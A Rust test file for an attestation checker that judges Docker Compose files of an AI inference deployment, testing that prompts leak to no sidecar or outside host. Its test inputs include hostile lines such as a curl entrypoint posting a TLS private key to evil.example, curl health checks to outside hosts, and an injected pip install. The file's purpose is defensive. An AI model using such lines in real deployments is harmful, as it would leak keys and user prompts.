//! Every place where prompts can leave: a helper there, an address outside there, and
//! beside each what an honest operator writes.

use attest::{ComposeDocument, Finding, Severity};

use super::{changed, code, deployed, digest, judge, with, with_service};

const SERVES: &str = "rejected_compose_sidecar_serves";
const OUTSIDE: &str = "rejected_compose_outside";
const VOLUME: &str = "rejected_compose_volume";
const SHARED: &str = "rejected_compose_shared_volume";
const SETTING: &str = "evidence_compose_setting";

/// The deployed file with a helper "spy", whose picture of the world is one program.
fn spied(text: &str) -> String {
    let spy = "\nservices:\n  spy:\n    image: python:3\n";
    text.replacen("\nservices:\n", spy, 1)
}

/// The file with a line in the web server's configuration; `$` as nginx reads it.
fn front(line: &str) -> String {
    let line = line.replace('$', "$$");
    changed(
        "        listen 443 ssl;\n",
        &format!("        listen 443 ssl;\n        {line}\n"),
    )
}

/// The file with another variable of the proxy.
fn variable(name: &str, value: &str) -> String {
    let to = format!("- MODEL_NAME=org/model\n      - {name}={value}");
    changed("- MODEL_NAME=org/model", &to)
}

/// The worst that is said of a topic and is not of the deployed file.
fn said(text: &str, topic: &str) -> Option<Severity> {
    let old = judge(&spied(&deployed())).unwrap();
    let new: Vec<Finding> = judge(text).unwrap();
    let new = new.into_iter().filter(|finding| !old.contains(finding));
    new.filter(|finding| finding.topic == topic)
        .map(|finding| finding.severity)
        .max()
}

/// The deployed file that names some host in one place.
type Naming = Box<dyn Fn(&str) -> String>;

/// Places that are sent prompts.
fn places() -> Vec<(&'static str, Naming)> {
    let front_says =
        |line: &'static str| -> Naming { Box::new(move |host| front(&line.replace("HOST", host))) };
    let proxy_has = |name: &'static str| -> Naming {
        Box::new(move |host| variable(name, &format!("http://{host}:3128")))
    };
    let bare = |name: &'static str| -> Naming {
        Box::new(move |host| variable(name, &format!("{host}:3128")))
    };
    let mut all = vec![
        (
            "proxy_pass",
            front_says("location /a { proxy_pass http://HOST:8000/; }"),
        ),
        (
            "grpc_pass",
            front_says("location /a { grpc_pass HOST:8000; }"),
        ),
        (
            "fastcgi_pass",
            front_says("location /a { fastcgi_pass \"HOST:9000\"; }"),
        ),
        (
            "uwsgi_pass",
            front_says("location /a { uwsgi_pass uwsgi://HOST:9000; }"),
        ),
        (
            "scgi_pass",
            front_says("location /a { scgi_pass HOST:9000; }"),
        ),
        (
            "memcached_pass",
            front_says("location /a { memcached_pass HOST:9000; }"),
        ),
        (
            "an upstream",
            front_says("} upstream u { server HOST:8000 weight=2; } server {"),
        ),
        (
            "a copy",
            front_says("mirror /m; location /m { proxy_pass http://HOST; }"),
        ),
        (
            "a variable of nginx",
            front_says("set $b HOST; location /a { proxy_pass http://$b:1; }"),
        ),
        (
            "a redirect",
            front_says("location /a { return 307 https://HOST$request_uri; }"),
        ),
        (
            "a rewrite",
            front_says("rewrite ^/a http://HOST/ redirect;"),
        ),
        ("VLLM_BASE_URL", proxy_has("VLLM_BASE_URL")),
        ("VLLM_BACKEND_URLS", bare("VLLM_BACKEND_URLS")),
        ("OPENAI_BASE_URL", proxy_has("OPENAI_BASE_URL")),
        ("MODEL_BACKEND", proxy_has("MODEL_BACKEND")),
    ];
    for name in [
        "HTTP_PROXY",
        "http_proxy",
        "HTTPS_PROXY",
        "https_proxy",
        "ALL_PROXY",
        "All_Proxy",
    ] {
        all.push((name, proxy_has(name)));
        all.push((name, bare(name)));
    }
    all.push((
        "the front's command",
        Box::new(|host| {
            let script = format!("echo 'proxy_pass http://{host};' > /etc/nginx/a; nginx");
            with("nginx", &format!("command: [sh, -c, \"{script}\"]"))
        }),
    ));
    all
}

#[test]
fn prompts_go_to_programs_on_their_way_and_to_nobody_else() {
    for (place, text) in places() {
        for (host, expected) in [
            ("model-2", "accepted"),
            ("localhost", "accepted"),
            ("spy", SERVES),
            ("Spy", SERVES),
            ("work-spy-1", SERVES),
            ("evil.example", OUTSIDE),
            ("192.0.2.7", OUTSIDE),
        ] {
            assert_eq!(code(&spied(&text(host))), expected, "{place}: {host}");
        }
    }
}

/// A name that no service has: whoever answers for the network decides.
#[test]
fn names_of_nobody_and_of_variables_are_a_danger() {
    for (place, text) in places() {
        if matches!(place, "a redirect" | "a rewrite") {
            continue;
        }
        for host in ["nobody", "$${NAME}"] {
            let said = said(&spied(&text(host)), "compose_unknown_address");
            assert_eq!(said, Some(Severity::Danger), "{place}: {host}");
        }
    }
    for value in ["${HTTP_PROXY}", "http://${HOST:-evil.example}:1"] {
        let text = spied(&variable("HTTP_PROXY", value));
        let said = said(&text, "compose_unknown_address");
        assert_eq!(said, Some(Severity::Danger), "{value}");
    }
    let default = variable("VLLM_BASE_URL", "${URL:-http://evil.example}");
    assert_eq!(code(&default), OUTSIDE);
}

/// Places whose addresses may be anything: a helper is refused, an address is said.
#[test]
fn helpers_are_named_nowhere_on_the_prompts_way() {
    for (place, text, topic) in [
        (
            "the front's command",
            with(
                "nginx",
                "command: [sh, -c, \"sed -i s/proxy/HOST/ /etc/nginx/nginx.conf; nginx\"]",
            ),
            "",
        ),
        (
            "the front's entry point",
            with(
                "nginx",
                "entrypoint: curl -d @/etc/letsencrypt/key https://HOST/",
            ),
            "compose_outside_address",
        ),
        (
            "the proxy's health check",
            with(
                "proxy",
                "healthcheck: {test: [CMD-SHELL, \"curl https://HOST/\"]}",
            ),
            "compose_outside_address",
        ),
        (
            "an engine's command",
            changed("--log-requests-level 0", "--kv-transfer http://HOST:1"),
            "compose_outside_address",
        ),
        (
            "a config that is no configuration",
            front("# see http://HOST"),
            "compose_outside_address",
        ),
        (
            "any variable",
            variable("REPORTS", "http://HOST:1"),
            "compose_outside_address",
        ),
        (
            "the recipe of an image",
            with_service("build: {dockerfile_inline: \"FROM x\\nENV http_proxy=http://HOST\"}"),
            "compose_built_in_machine",
        ),
    ] {
        let named = |host: &str| spied(&text.replace("HOST", host));
        assert_eq!(code(&named("spy")), SERVES, "{place}");
        assert_eq!(code(&named("localhost")), "accepted", "{place}");
        assert_eq!(code(&named("evil.example")), "accepted", "{place}");
        if !topic.is_empty() {
            assert!(said(&named("evil.example"), topic).is_some(), "{place}");
        }
    }
}

#[test]
fn telemetry_may_go_to_helpers_and_is_said() {
    let engine = |address: &str| {
        let option = format!("--otlp-traces-endpoint {address}");
        changed("--log-requests-level 0", &option)
    };
    for text in [
        variable("OTEL_EXPORTER_OTLP_ENDPOINT", "http://otelcol:4317"),
        variable("OTEL_EXPORTER_OTLP_ENDPOINT", "https://evil.example"),
        engine("otelcol:4317"),
        engine("evil.example:4317"),
    ] {
        assert_eq!(
            said(&spied(&text), "compose_telemetry"),
            Some(Severity::Warning)
        );
    }
    let content = variable("OTEL_INSTRUMENTATION_GENAI_CAPTURE_MESSAGE_CONTENT", "true");
    assert_eq!(
        said(&spied(&content), "compose_logs_prompts"),
        Some(Severity::Danger)
    );
    for text in [
        variable("NO_PROXY", "spy,localhost"),
        variable(
            "OTEL_INSTRUMENTATION_GENAI_CAPTURE_MESSAGE_CONTENT",
            "false",
        ),
        variable("VLLM_MEDIA_URL_ALLOW_REDIRECTS", "0"),
        variable("VLLM_LOGGING_LEVEL", "INFO"),
    ] {
        assert_eq!(code(&spied(&text)), "accepted", "{text}");
    }
    // Only of an engine, only there, and only an address.
    for text in [
        with("proxy", "command: --otlp-traces-endpoint spy:4317"),
        engine("otelcol:4317 --other spy"),
        engine("\"otelcol:4317;curl\" --other spy"),
        engine("$(curl,spy)"),
    ] {
        assert_eq!(code(&spied(&text)), SERVES, "{text}");
    }
}

#[test]
fn what_a_front_does_with_requests_is_said() {
    use Severity::{Danger, Warning};
    for (line, topic, severity) in [
        (
            "log_format full '$request_body';",
            "compose_logs_prompts",
            Danger,
        ),
        ("mirror /m;", "compose_mirror", Warning),
        (
            "access_log syslog:server=192.0.2.1;",
            "compose_log_driver",
            Warning,
        ),
        ("resolver 192.0.2.1;", "compose_names", Warning),
        ("load_module modules/x.so;", "compose_front_code", Danger),
        ("js_import /x.js;", "compose_front_code", Danger),
        ("include /x/*.conf;", "compose_front_code", Danger),
    ] {
        assert_eq!(said(&spied(&front(line)), topic), Some(severity), "{line}");
    }
    for line in [
        "log_format json escape=json '{\"uri\":\"$uri\"}';",
        "mirror off;",
        "access_log /var/log/nginx/access.log json;",
        "include /etc/nginx/mime.types;",
        "include conf.d/a.conf;",
        "return 301 https://$host$request_uri;",
        "location /a { proxy_pass http://proxy:8000$request_uri; }",
        "# proxy_pass nobody;",
        "proxy_pass_request_body off;",
    ] {
        let old = judge(&deployed()).unwrap();
        assert_eq!(judge(&front(line)).unwrap(), old, "{line}");
    }
}

#[test]
fn engines_that_log_prompts_are_told_from_those_that_do_not() {
    for (options, logs) in [
        ("--log-requests-level 0", false),
        ("--log-requests --log-requests-level 0", false),
        ("--log-requests --log-requests-level=1", false),
        ("--log-requests", true),
        ("--log-requests-level 2", true),
        ("--log-requests-level 0 --log-requests-level 3", true),
        ("--log-requests-level ${LEVEL}", true),
        ("--enable-log-requests", true),
        ("--enable-log-outputs", true),
        ("--disable-log-requests", false),
    ] {
        let text = spied(&changed("--log-requests-level 0", options));
        let expected = logs.then_some(Severity::Danger);
        assert_eq!(said(&text, "compose_logs_prompts"), expected, "{options}");
    }
    let installs = changed("--log-requests-level 0", "; pip install x");
    let said = said(&spied(&installs), "compose_unpinned_program");
    assert_eq!(said, Some(Severity::Danger));
}

#[test]
fn names_that_are_bent_out_of_the_machine() {
    for (hosts, expected) in [
        ("[\"compose-manager:host-gateway\"]", "accepted"),
        ("[\"compose-manager=host-gateway\"]", "accepted"),
        ("{compose-manager: host-gateway}", "accepted"),
        ("[\"elsewhere:192.0.2.1\"]", "accepted"),
        ("[\"model-1:127.0.0.1\"]", "accepted"),
        ("[\"model-1:192.0.2.1\"]", OUTSIDE),
        ("[\"Model-1=192.0.2.1\"]", OUTSIDE),
        ("{model-1: 192.0.2.1}", OUTSIDE),
        ("{model-1: [127.0.0.1, \"2001:db8::1\"]}", OUTSIDE),
        ("[\"model-1:[2001:db8::1]\"]", OUTSIDE),
        ("[\"model-1:${PEER}\"]", "evidence_compose_variable"),
        ("[model-1]", SETTING),
    ] {
        let from = "extra_hosts:\n      - \"compose-manager:host-gateway\"";
        let text = changed(from, &format!("extra_hosts: {hosts}"));
        assert_eq!(code(&text), expected, "{hosts}");
    }
    // Under a name of its own.
    let named = with("nginx", "extra_hosts: [\"elsewhere:192.0.2.1\"]");
    assert_eq!(
        said(&spied(&named), "compose_names"),
        Some(Severity::Warning)
    );
    let named = named.replace("http://proxy:8000", "http://elsewhere:8000");
    assert_eq!(code(&named), OUTSIDE);
    // Who answers at the machine's own address may be a helper.
    let bent = with("nginx", "extra_hosts: [\"proxy:host-gateway\"]");
    assert_eq!(said(&spied(&bent), "compose_names"), Some(Severity::Danger));
}

#[test]
fn helpers_write_nothing_that_fronts_and_proxies_read() {
    let shared = |service: &str, own: &str, others: &str| {
        let text = with("registrar", &format!("volumes: [\"{others}\"]"));
        let text = text.replace("  kernel_cache:\n\n", "  kernel_cache:\n  conf:\n\n");
        match service {
            "model-1" => text.replace(
                "    - kernel_cache:/root/.cache/deep_gemm",
                &format!("    - kernel_cache:/root/.cache/deep_gemm\n    - {own}"),
            ),
            _ => text.replace(
                "      - certs:/etc/letsencrypt:ro\n    configs:",
                &format!("      - certs:/etc/letsencrypt:ro\n      - {own}\n    configs:"),
            ),
        }
    };
    for (others, expected) in [
        ("conf:/x", SHARED),
        ("conf:/x:rw", SHARED),
        ("conf:/x:ro", "accepted"),
        ("other:/x", "accepted"),
    ] {
        assert_eq!(
            code(&shared("nginx", "conf:/conf:ro", others)),
            expected,
            "{others}"
        );
    }
    for (own, others, severity) in [
        ("conf:/root/.cache/x", "conf:/x", Some(Severity::Warning)),
        ("conf:/usr/lib/x", "conf:/x", Some(Severity::Danger)),
        ("conf:/usr/lib/x", "conf:/x:ro", None),
    ] {
        let text = spied(&shared("model-1", own, others));
        assert_eq!(
            said(&text, "compose_shared_volume"),
            severity,
            "{own} {others}"
        );
    }
}

#[test]
fn modes_of_mounts_are_read_as_compose_reads_them() {
    const PATH: &str = "rejected_compose_host_path";
    let containers = "- /var/lib/docker/containers:/var/lib/docker/containers:ro";
    for (modes, expected) in [
        ("ro", "accepted"),
        ("ro,z", "accepted"),
        ("z,ro", "accepted"),
        ("rw", PATH),
        ("z", PATH),
        ("ro,rw", SETTING),
        ("rw,ro", SETTING),
        ("ro,ro", SETTING),
        ("ro,rshared", SETTING),
        ("ro,unknown", SETTING),
        ("RO", SETTING),
        ("ro,", SETTING),
    ] {
        let to = format!("- /var/lib/docker/containers:/c:{modes}");
        assert_eq!(code(&changed(containers, &to)), expected, "{modes}");
        let certs = changed(
            "      - certs:/etc/letsencrypt:ro\n    configs:",
            &format!("      - certs:/etc/letsencrypt:{modes}\n    configs:"),
        );
        let known = if expected == SETTING {
            SETTING
        } else {
            "accepted"
        };
        assert_eq!(code(&certs), known, "{modes}");
    }
    for (more, expected) in [
        ("read_only: true", "accepted"),
        ("read_only: true, consistency: cached", "accepted"),
        ("read_only: true, bind: {recursive: readonly}", "accepted"),
        ("read_only: true, bind: {recursive: disabled}", "accepted"),
        ("read_only: true, bind: {recursive: enabled}", "accepted"),
        (
            "read_only: true, bind: {propagation: rprivate, create_host_path: false}",
            "accepted",
        ),
        ("read_only: true, bind: {recursive: writable}", PATH),
        ("read_only: false, bind: {recursive: readonly}", PATH),
        ("bind: {recursive: readonly}", PATH),
        ("read_only: true, bind: {recursive: other}", SETTING),
        ("read_only: true, bind: {propagation: rshared}", SETTING),
        ("read_only: true, bind: {other: x}", SETTING),
        ("read_only: true, bind: x", SETTING),
        ("read_only: true, other: x", SETTING),
        (
            "read_only: true, bind: {recursive: $X}",
            "evidence_compose_variable",
        ),
    ] {
        let source = "{type: bind, source: /var/lib/docker/containers, target: /c";
        let text = changed(containers, &format!("- {source}, {more}}}"));
        assert_eq!(code(&text), expected, "{more}");
    }
}

#[test]
fn the_guest_agents_socket_is_known_by_all_its_names() {
    let old = "- /var/run/dstack.sock:/var/run/dstack.sock";
    for path in [
        "/var/run/dstack.sock",
        "/run/dstack.sock",
        "/var/run/dstack/dstack.sock",
        "/run/dstack/dstack.sock",
        "/run/dstack/../dstack/./dstack.sock",
        "/var/run/dstack",
        "/run/dstack/",
    ] {
        assert_eq!(
            code(&changed(old, &format!("- {path}:/s"))),
            "accepted",
            "{path}"
        );
        for service in ["registrar", "model-downloader"] {
            let text = deployed().replace(
                &format!("  {service}:\n"),
                &format!("  {service}:\n    x-a: a\n"),
            );
            let socket = format!("volumes: [\"{path}:/s:ro\"]\n    x-a: a\n");
            let text = text.replace("x-a: a\n", &socket);
            let text = text.replace(
                "    volumes:\n      - huggingface_cache:/root/.cache/huggingface\n  otelcol",
                "  otelcol",
            );
            assert_eq!(
                code(&text),
                "rejected_compose_dstack_socket",
                "{service} {path}"
            );
        }
    }
}

#[test]
fn volumes_are_judged_by_what_they_are() {
    for (settings, expected) in [
        ("{driver: local}", "accepted"),
        ("{driver_opts: {type: tmpfs, device: tmpfs}}", "accepted"),
        (
            "{driver: local, driver_opts: {type: tmpfs, device: tmpfs, o: \"size=64g,uid=1000\"}}",
            "accepted",
        ),
        // With it the kernel looks at no type.
        (
            "{driver_opts: {type: tmpfs, device: tmpfs, o: bind}}",
            VOLUME,
        ),
        ("{driver_opts: {type: tmpfs, device: /srv}}", VOLUME),
        ("{driver_opts: {type: none, device: /srv, o: bind}}", VOLUME),
        (
            "{driver_opts: {type: nfs, device: \":/x\", o: addr=192.0.2.1}}",
            VOLUME,
        ),
        ("{driver_opts: {type: cifs, device: //192.0.2.1/x}}", VOLUME),
        ("{driver_opts: {type: ext4, device: /dev/sdb}}", VOLUME),
        ("{driver_opts: {size: 1g}}", VOLUME),
        ("{driver: nfs}", VOLUME),
        (
            "{driver_opts: {type: $TYPE, device: tmpfs}}",
            "evidence_compose_variable",
        ),
    ] {
        let text = changed(
            "  kernel_cache:\n\n",
            &format!("  kernel_cache: {settings}\n\n"),
        );
        assert_eq!(code(&text), expected, "{settings}");
    }
}

#[test]
fn an_image_that_a_variable_may_replace_is_not_pinned() {
    let pinned = format!("docker.io/nginx@{}", digest('c'));
    let chosen = |image: &str| changed(&pinned, &format!("\"{image}\""));
    for (image, expected) in [
        (pinned.clone(), "accepted"),
        (
            format!("${{NGINX_IMAGE:-{pinned}}}"),
            "rejected_compose_not_pinned",
        ),
        (
            format!("${{NGINX_IMAGE-{pinned}}}"),
            "rejected_compose_not_pinned",
        ),
        (
            "${NGINX_IMAGE:-nginx}".to_owned(),
            "rejected_compose_not_pinned",
        ),
        (
            format!("${{NGINX_IMAGE:-evil/nginx@{}}}", digest('c')),
            "rejected_compose_certs",
        ),
        ("${NGINX_IMAGE}".to_owned(), "evidence_compose_variable"),
    ] {
        assert_eq!(code(&chosen(&image)), expected, "{image}");
    }
    let helper = with_service("image: ${X:-alpine:3.20}");
    assert_eq!(code(&helper), "rejected_compose_not_pinned");
    let text = chosen(&format!("${{NGINX_IMAGE:-{pinned}}}"));
    let document = ComposeDocument::read("f", text.as_bytes()).unwrap();
    let images: Vec<_> = document.images().collect();
    let nginx = images
        .iter()
        .find(|image| image.service == "nginx")
        .unwrap();
    assert!(nginx.by_default && nginx.image.is_some());
    assert_eq!(images.iter().filter(|image| image.by_default).count(), 1);
}
